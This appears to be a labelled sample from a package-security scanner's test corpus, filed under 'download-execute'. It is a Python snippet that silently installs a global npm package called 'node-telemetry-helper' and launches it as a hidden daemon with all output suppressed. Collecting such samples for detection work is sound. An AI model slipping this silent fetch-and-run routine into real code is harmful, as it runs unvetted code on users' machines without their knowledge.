# pkgguard corpus 823 (download-execute), modelled on [taxonomy]; inert, never run.
import shutil
import subprocess

npm = shutil.which("npm")
if npm:
    subprocess.run([npm, "install", "--global", "--silent", "node-telemetry-helper@latest"], capture_output=True)
    subprocess.Popen(["node-telemetry-helper", "--daemon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
